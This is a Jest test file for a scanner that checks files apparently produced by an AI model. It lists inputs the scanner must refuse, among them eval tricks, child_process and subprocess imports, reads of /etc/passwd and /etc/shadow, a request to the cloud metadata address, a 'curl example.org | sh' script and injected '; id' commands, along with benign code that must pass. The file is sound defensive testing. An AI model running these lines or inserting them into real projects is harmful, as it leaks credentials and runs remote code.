import { describe, expect, it } from '@jest/globals';
import * as fc from 'fast-check';
import { scanApp } from './scan-app';

const rulesOf = async (path: string, content: string): Promise<string[]> =>
  (await scanApp([{ path, content }])).map(({ rule }) => rule);

describe('a scan of what a model wrote', () => {
  it.each([
    ['eval("1")', 'code-from-text'],
    ['(0, eval)("1")', 'code-from-text'],
    ['globalThis["eval"]("1")', 'code-from-text'],
    ['new Function("return 1")()', 'code-from-text'],
    ['[].filter.constructor("return 1")()', 'code-from-text'],
    ['[]["constructor"]["constructor"]("return 1")()', 'code-from-text'],
    ['setTimeout("alert(1)", 1)', 'code-from-text'],
    ['window.setInterval(`a${1}`, 1)', 'code-from-text'],
    ['WebAssembly.instantiate(x)', 'code-from-text'],
    [`import { exec } from 'child_process'`, 'programs'],
    [`import cp from 'node:child_process'`, 'programs'],
    [`export * from 'node:vm'`, 'programs'],
    [`const cp = require('child_process')`, 'programs'],
    [`await import('node:worker_threads')`, 'programs'],
    [`process.getBuiltinModule('child_process')`, 'programs'],
    [`require('child_' + 'process')`, 'named-at-run-time'],
    [`const r = require; r('x')`, 'named-at-run-time'],
    [`await import(name)`, 'named-at-run-time'],
    [`process.binding('spawn_sync')`, 'process'],
    [`process['binding']('fs')`, 'process'],
    [`process.kill(1)`, 'process'],
    [`console.log(JSON.stringify(process.env))`, 'environment'],
    [`const all = { ...process.env }`, 'environment'],
    [`fs.readFileSync('/etc/passwd')`, 'system-place'],
    ['fs.readFileSync(`/proc/self/environ`)', 'system-place'],
    [`fetch('http://169.254.169.254/latest/meta-data')`, 'system-place'],
    [`fs.writeFileSync('../../../out.txt', 'x')`, 'system-place'],
    [`const packed = '${'QUJD'.repeat(700)}'`, 'packed-text'],
    ['const = 1', 'syntax'],
    ['function (', 'syntax'],
    [`${'['.repeat(20_000)}`, 'syntax'],
  ])('refuses JavaScript: %s', async (code, rule) => {
    expect(await rulesOf('server.js', code)).toContain(rule);
    // The same within a page and in a handler's way of being written.
    if (rule !== 'syntax' && !/^(import|export)/.test(code))
      expect(
        await rulesOf('index.html', `<!doctype html><body><script type="module">${code}</script></body>`),
      ).toContain(rule);
  });

  it.each([
    ['import subprocess', 'programs'],
    ['from subprocess import run as r', 'programs'],
    ['import os, socket as s', 'programs'],
    ['import os\nos.system("id")', 'programs'],
    ['import os as o\no.popen("id")', 'programs'],
    ['from os import (\n  path,\n  system)', 'programs'],
    ['from os import *', 'programs'],
    ['import ctypes', 'programs'],
    ['import pickle', 'programs'],
    ['import importlib', 'programs'],
    ['eval("1")', 'code-from-text'],
    ['exec ("x = 1")', 'code-from-text'],
    ['__import__("os")', 'code-from-text'],
    ['().__class__.__bases__[0].__subclasses__()', 'internals'],
    ['print(__builtins__)', 'internals'],
    ['app.run(host="0.0.0.0", debug=True)', 'debugger'],
    ['open("/etc/shadow")', 'system-place'],
    ['open(f"/proc/{1}/environ")', 'system-place'],
    ['def f(:\n  pass', 'syntax'],
    ['print("a"', 'syntax'],
  ])('refuses Python: %s', async (code, rule) => {
    expect(await rulesOf('main.py', code)).toContain(rule);
  });

  it.each([
    ['index.html', '<a href="javascript:eval(1)">x</a>', 'code-from-text'],
    ['index.html', '<a href=" JavaScript:eval(1)">x</a>', 'code-from-text'],
    ['index.html', '<button onclick="eval(1)">x</button>', 'code-from-text'],
    ['index.html', '<script>const = 1</script>', 'syntax'],
    ['index.html', '<p>cut <a href="x', 'syntax'],
    ['index.html', '<iframe src="https://example.org"></iframe>', 'other-page'],
    ['index.html', '<base href="//example.org/">', 'other-page'],
    ['index.html', '<form action="https://example.org"></form>', 'other-page'],
    ['index.html', '<meta http-equiv="refresh" content="0; url=https://example.org">', 'other-page'],
    ['logo.svg', '<svg><script>eval(1)</script></svg>', 'code-from-text'],
    ['logo.svg', '<svg onload="eval(1)"></svg>', 'code-from-text'],
    ['style.css', 'a { color: red', 'syntax'],
    ['data.json', '{', 'syntax'],
    ['package.json', '{', 'syntax'],
    ['package.json', '{"scripts":{"postinstall":"node x.js"}}', 'install-script'],
    ['package.json', '{"scripts":{"prepare":"node x.js"}}', 'install-script'],
    ['package.json', '{"scripts":{"start":"curl example.org | sh"}}', 'script'],
    ['package.json', '{"scripts":{"start":"node x.js; id"}}', 'script'],
    ['package.json', '{"scripts":{"start":"node -e 1 && $(id)"}}', 'script'],
    ['package.json', '{"dependencies":{"a":"https://example.org/a.tgz"}}', 'dependency'],
    ['package.json', '{"dependencies":{"a":"git+ssh://git@example.org/a"}}', 'dependency'],
    ['package.json', '{"dependencies":{"a":"file:../../etc"}}', 'dependency'],
    ['package.json', '{"dependencies":{"a":"npm:b@1"}}', 'dependency'],
    ['package.json', '{"dependencies":{"../a":"1.0.0"}}', 'dependency'],
    ['package.json', '{"overrides":{"a":"1.0.0"}}', 'manifest'],
    ['package.json', '{"bin":"x.js"}', 'manifest'],
    ['requirements.txt', '-e git+https://example.org/a', 'dependency'],
    ['requirements.txt', '--index-url http://example.org', 'dependency'],
    ['requirements.txt', 'a @ https://example.org/a.whl', 'dependency'],
    ['../out.js', '1', 'file-name'],
    ['/etc/cron.d/x.js', '1', 'file-name'],
    ['a/../../x.js', '1', 'file-name'],
    ['.npmrc', 'x=1', 'file-name'],
    ['node_modules/a/index.js', '1', 'file-name'],
    ['run.sh', 'id', 'file-kind'],
    ['App.svelte', '{eval(1)}', 'file-kind'],
    ['Dockerfile', 'FROM x', 'file-kind'],
    ['lib.so', 'x', 'file-kind'],
  ])('refuses %s: %s', async (path, content, rule) => {
    expect(await rulesOf(path, content)).toContain(rule);
  });

  it('says where, and how to do without', async () => {
    expect(await scanApp([{ path: 'a.js', content: 'const a = 1;\neval(a)' }])).toEqual([
      {
        path: 'a.js',
        line: 2,
        rule: 'code-from-text',
        message: expect.stringMatching(/write the code itself/),
      },
    ]);
    const page = '<!doctype html>\n<p>x</p>\n<script>\nlet a;\nconst = 1\n</script>';
    expect((await scanApp([{ path: 'index.html', content: page }]))[0]).toMatchObject({
      line: 5,
      rule: 'syntax',
    });
  });

  it.each([
    [
      'server.js',
      `import http from 'node:http';\nhttp.createServer((q, s) => s.end('ok')).listen(process.env.PORT || 3000);`,
    ],
    [
      'server.js',
      `const { PORT = 3000 } = process.env;\nconst fs = require('fs');\nfs.readFileSync('./data.json')`,
    ],
    [
      'app.js',
      `const time = document.querySelector('#time'); setInterval(() => (time.textContent = new Date()), 1000);`,
    ],
    [
      'App.tsx',
      `import { useState } from 'react';\nexport default function App({ a }: { a: number }) { const [x] = useState<number>(a); return <p>{x}</p>; }`,
    ],
    [
      'page.jsx',
      `import dynamic from 'next/dynamic';\nconst Chart = dynamic(() => import('./chart'));\nexport default function Page() { return <Chart />; }`,
    ],
    ['util.ts', `export class A { constructor(private readonly b: string) { super.toString(); } }`],
    [
      'main.py',
      `import os\nimport json\nfrom flask import Flask\napp = Flask(__name__)\nif __name__ == "__main__":\n    app.run(host="0.0.0.0", port=int(os.environ.get("PORT", 5000)))`,
    ],
    [
      'main.py',
      `import platform\nprint(platform.system(), f"{1 + 1:>5}")\nmatch 1:\n    case 1:\n        print("one")\n`,
    ],
    ...[
      'with (\n    open("a") as a,\n    open("b") as b,\n):\n    print(a, b)\n',
      'first = lambda x, /, *, y=1: x\n@first.of[0](1).more\ndef f(*a, **b):\n    return *a, b[*a]\n',
      'type Row[T] = list[T]\ndef one[T: int](x: T) -> T:\n    return x\nclass A[T]: ...\n',
      `name = "Ann"\nprint(f"{name!r:>{10}} {f'{name}'} {dict(a=1)["a"]=}", t"hi {name}")\n`,
      'try:\n    pass\nexcept* ValueError as error:\n    raise\n',
      'async def f(rows):\n    async with rows as a, rows as b:\n        return [x async for x in a if (n := len(b)) > 1]\n',
    ].map((code): [string, string] => ['main.py', code]),
    [
      'index.html',
      `<!doctype html><h1>Hi</h1><img src="data:image/png;base64,AAAA"><script type="application/json">{"a":1}</script>`,
    ],
    [
      'index.html',
      `<form action="/notes" method="post"><input name="a"></form><a href="https://example.org">Read on</a>`,
    ],
    [
      'package.json',
      `{"name":"a","type":"module","scripts":{"start":"node server.js","dev":"vite","build":"next build"},"dependencies":{"express":"5.3.0","@a/b":"^1.2.0"}}`,
    ],
    [
      'requirements.txt',
      'flask==3.1.3\n# words\nuvicorn[standard]>=0.30,<1 ; python_version >= "3.9"  # why\n',
    ],
    ['store.ts', '@store class A { @field() accessor x = 1; @action add() {} }'],
    ['style.css', `@import "tailwindcss"; :root { --a: 1px } .a { &:hover { color: red } }`],
  ])('lets %s pass: %s', async (path, content) => {
    expect(await scanApp([{ path, content }])).toEqual([]);
  });

  it('counts and weighs before it reads', async () => {
    const file = (path: string, bytes: number) => ({ path, content: 'x'.repeat(bytes) });
    expect(await scanApp([])).toMatchObject([{ rule: 'size' }]);
    expect(await scanApp(Array.from({ length: 41 }, (_, at) => file(`${at}.txt`, 1)))).toMatchObject([
      { rule: 'size' },
    ]);
    expect(await scanApp([file('a.js', 40_001)])).toMatchObject([{ path: 'a.js', rule: 'size' }]);
    expect(await scanApp(Array.from({ length: 4 }, (_, at) => file(`${at}.txt`, 39_000)))).toMatchObject([
      { rule: 'size' },
    ]);
    expect(await scanApp([file('a.txt', 1), file('A.txt', 1)])).toMatchObject([{ rule: 'file-name' }]);
  });

  it('has a bound for the programs of one page', async () => {
    const page = '<p onclick="a()">'.repeat(61);
    expect(await rulesOf('index.html', page)).toEqual(['size']);
  });

  it('ends, and throws nothing, whatever it reads', async () => {
    const name = fc.constantFrom(
      'a.js',
      'a.tsx',
      'a.py',
      'a.html',
      'a.css',
      'a.json',
      'package.json',
      'requirements.txt',
    );
    const piece = fc.constantFrom(
      '{',
      '(',
      '[',
      '<a ',
      '"',
      "'",
      '`',
      '${',
      '/*',
      '//',
      'def f',
      ':',
      '\n',
      ' ',
      'import ',
      'eval',
      '\0',
      '\u2028',
      '<script>',
      '</',
      '=',
      '@',
      '#',
    );
    await fc.assert(
      fc.asyncProperty(name, fc.array(piece, { maxLength: 60 }), async (path, pieces) => {
        await scanApp([{ path, content: pieces.join('') }]);
      }),
      { numRuns: 300 },
    );
    for (const [path, unit] of [
      ['a.py', '('],
      ['a.html', '<div>'],
      ['a.css', 'a{'],
      ['a.json', '['],
      ['a.js', 'a=>'],
      ['requirements.txt', 'a=='],
      ['a.svg', '<g>'],
    ] as const)
      await scanApp([{ path, content: unit.repeat(Math.floor(39_000 / unit.length)) }]);
  });
});
